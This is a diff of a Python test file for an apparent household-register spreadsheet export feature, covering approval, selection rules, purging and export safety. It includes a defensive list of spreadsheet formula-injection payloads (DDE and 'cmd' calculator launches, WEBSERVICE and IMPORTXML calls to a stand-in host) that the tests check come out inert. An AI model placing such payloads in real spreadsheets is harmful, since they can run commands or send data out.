@@ -32,8 +32,17 @@ from qiaomen.sheets.models import Export
 from qiaomen.sheets.rules.trace import Filed, extract_marks, marks_of, rank
 from qiaomen.sheets.tests.test_grid import head, person, town  # noqa: F401
 
-SOME = [[n, f"王{'一二三四五六七八九十'[n % 10]}{n}", "户主", id_no(200 + n), f"138000{n:05d}", f"学府里{n // 20 + 2}-1-{100 + n}"]
-        for n in range(1, 61)]  # fmt: skip
+SOME = [
+    [
+        n,
+        f"王{'一二三四五六七八九十'[n % 10]}{n}",
+        "户主",
+        id_no(200 + n),
+        f"138000{n:05d}",
+        f"学府里{n // 20 + 2}-1-{100 + n}",
+    ]
+    for n in range(1, 61)
+]
 
 
 @pytest.fixture
@@ -137,11 +146,29 @@ def test_many_small_files_are_one_large_one(big: Organisation, worker: Staff, he
         assert ask(worker, big, filters={"door": "学府里 4-1"}).state == "approved"
 
 
-def test_what_grew_after_approval_does_not_leave(town: Organisation, worker: Staff) -> None:
-    export = ask(worker, town)
-    bring_in(town, worker, SOME[:3])
-    with pytest.raises(problems.MoreThanApproved):
-        exports.take_export(export=export, staff=worker)
+def test_what_is_approved_is_people_not_a_filter(big: Organisation, worker: Staff, head: Staff) -> None:
+    """Whoever comes in afterwards is not in the file; whose row has changed is not either, and is named to both."""
+    export = ask(worker, big)
+    bring_in(big, worker, [[1, "后来者", "户主", id_no(900), "13811110000", "学府里9-1-901"]])
+    household_events.correct_person(person=person("解万里"), actor=head, reason="本人说", phone="13511112222")
+    household_events.record_death(
+        household=person("曾·艾力").household, person=person("曾·艾力"), on_date=clock.today(), actor=head
+    )
+    seen = client_of(head).get(reverse("sheets:exports")).content.decode()
+    assert "曾·艾力、解万里（2 行）" in seen and "后来者" not in seen
+    exports.decide_export(export=export, staff=head, approve=True)
+    assert "曾·艾力、解万里（2 行）" in client_of(worker).get(reverse("sheets:exports")).content.decode()
+    taken = exports.take_export(export=export, staff=worker)
+    assert taken.dropped == ["曾·艾力", "解万里"]
+    content = opened(exports.hand_over(export=taken.export, staff=worker, link=taken.link), taken.password)
+    names = {row[0] for row in cells_of(content)[2:-1]}
+    assert len(names) == 63 and not names & {"后来者", "解万里", "曾·艾力"}
+
+
+def test_nobody_is_chosen_by_a_number(town: Organisation, worker: Staff) -> None:
+    assert asked(worker, filters={"phone": "13900001234", "id_no": id_no(11), "sex": "男"}).question.filters == {
+        "sex": "男"
+    }
 
 
 def test_nothing_and_too_much_make_no_file(town: Organisation, worker: Staff, monkeypatch: Any) -> None:
@@ -155,11 +182,32 @@ def test_nothing_and_too_much_make_no_file(town: Organisation, worker: Staff, mo
 
 # ---- the file itself ----
 
-PAYLOADS = [f"{start}{body}" for start in ("=", "+", "-", "@", "\t=", "\r=", "＝", "=-", " =", "|") for body in (
-    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x","点我")', "SUM(A1:A9)", "DDE(\"cmd\";\"/C calc\";\"x\")",
-    'WEBSERVICE("http://x")', "IMPORTXML(CONCAT(\"http://x?v=\",A1),\"//a\")", "1;=1", '"&A1&"', "{=1}",
-    "A1", "@SUM(1)", "'=1", "0x1", "1e9", "http://x", "mailto:x@x", "file:///c:/x", "internal:'Sheet'!A1", "TRUE",
-)]  # fmt: skip
+PAYLOADS = [
+    f"{start}{body}"
+    for start in ("=", "+", "-", "@", "\t=", "\r=", "＝", "=-", " =", "|")
+    for body in (
+        "1+1",
+        "cmd|' /C calc'!A0",
+        'HYPERLINK("http://x","点我")',
+        "SUM(A1:A9)",
+        'DDE("cmd";"/C calc";"x")',
+        'WEBSERVICE("http://x")',
+        'IMPORTXML(CONCAT("http://x?v=",A1),"//a")',
+        "1;=1",
+        '"&A1&"',
+        "{=1}",
+        "A1",
+        "@SUM(1)",
+        "'=1",
+        "0x1",
+        "1e9",
+        "http://x",
+        "mailto:x@x",
+        "file:///c:/x",
+        "internal:'Sheet'!A1",
+        "TRUE",
+    )
+]
 
 
 def test_no_payload_lives() -> None:
@@ -177,9 +225,17 @@ def assert_plain(content: bytes) -> None:
     with zipfile.ZipFile(io.BytesIO(content)) as file:
         parts = {name: file.read(name).decode() for name in file.namelist()}
     assert set(parts) == {
-        "[Content_Types].xml", "_rels/.rels", "docProps/app.xml", "docProps/core.xml", "xl/workbook.xml",
-        "xl/_rels/workbook.xml.rels", "xl/worksheets/sheet1.xml", "xl/styles.xml", "xl/theme/theme1.xml", "xl/sharedStrings.xml",
-    }  # fmt: skip
+        "[Content_Types].xml",
+        "_rels/.rels",
+        "docProps/app.xml",
+        "docProps/core.xml",
+        "xl/workbook.xml",
+        "xl/_rels/workbook.xml.rels",
+        "xl/worksheets/sheet1.xml",
+        "xl/styles.xml",
+        "xl/theme/theme1.xml",
+        "xl/sharedStrings.xml",
+    }
     sheet, book = parts["xl/worksheets/sheet1.xml"], parts["xl/workbook.xml"]
     assert not re.search(r"<f[ >/]|hyperlink|hidden|legacyDrawing|dataValidation|oleObject", sheet)
     assert set(re.findall(r' t="(\w+)"', sheet)) <= {"s"} and "inlineStr" not in sheet
@@ -214,7 +270,7 @@ def test_the_whole_way_on_screen(big: Organisation, worker: Staff, head: Staff) 
     client, other = client_of(worker), client_of(head)
     new, listed = reverse("sheets:export-new"), reverse("sheets:exports")
     page = client.post(new, {"wish": wish(filters={"phone": "13900001234"})}).content.decode()
-    assert "1 行" in page and "13900001234" in page  # what was typed is said back to who typed it
+    assert "65 行" in page and "13900001234" not in page  # nobody is chosen by a number
     page = client.post(new, {"wish": wish()}).content.decode()
     assert "65 行" in page and "要另一位主任或网格员同意" in page
     missing = client.post(new, {"wish": wish(), "ask": "1", "purpose": "电话慰问", "clear": ["phone"]}).content.decode()
@@ -247,7 +303,7 @@ def test_the_whole_way_on_screen(big: Organisation, worker: Staff, head: Staff) 
     )
     numbers = {p.phone for p in Person.objects.all() if p.phone}
     assert numbers - {p.phone for p in Person.objects.filter(name="单小宝")} <= {
-        row[4 + 3] for row in cells_of(opened(answer.content, password[1]))
+        row[6] for row in cells_of(opened(answer.content, password[1]))
     }
     assert not [
         p.id_no for p in Person.objects.all() if p.id_no in json.dumps(cells_of(opened(answer.content, password[1])))
@@ -300,7 +356,7 @@ def test_the_lock_is_what_office_programs_write(town: Organisation, worker: Staf
 
 
 def test_after_thirty_days_what_was_asked_for_is_gone(big: Organisation, worker: Staff, head: Staff) -> None:
-    small, large = ask(worker, big, filters={"phone": "13900001234"}), ask(worker, big)
+    small, large = ask(worker, big, filters={"name": "单志明"}), ask(worker, big)
     take(small, worker)
     with clock.at(clock.now() + timedelta(days=29)):
         exports.purge()
@@ -309,7 +365,9 @@ def test_after_thirty_days_what_was_asked_for_is_gone(big: Organisation, worker:
         assert exports.purge() == 2 and exports.purge() == 0
         small.refresh_from_db()
         large.refresh_from_db()
-        assert (small.asked_for, large.state, large.decided_by) == ("", "refused", None) and len(small.marks)
+        assert (small.asked_for + small.frozen, large.state, large.decided_by) == ("", "refused", None) and len(
+            small.marks
+        )
         page = client_of(worker).get(reverse("sheets:exports")).content.decode()
         assert "三十天没有人答复" in page and "1 行" in page and small.purpose in page
         assert str(large) not in client_of(head).get(reverse("sheets:exports")).content.decode()
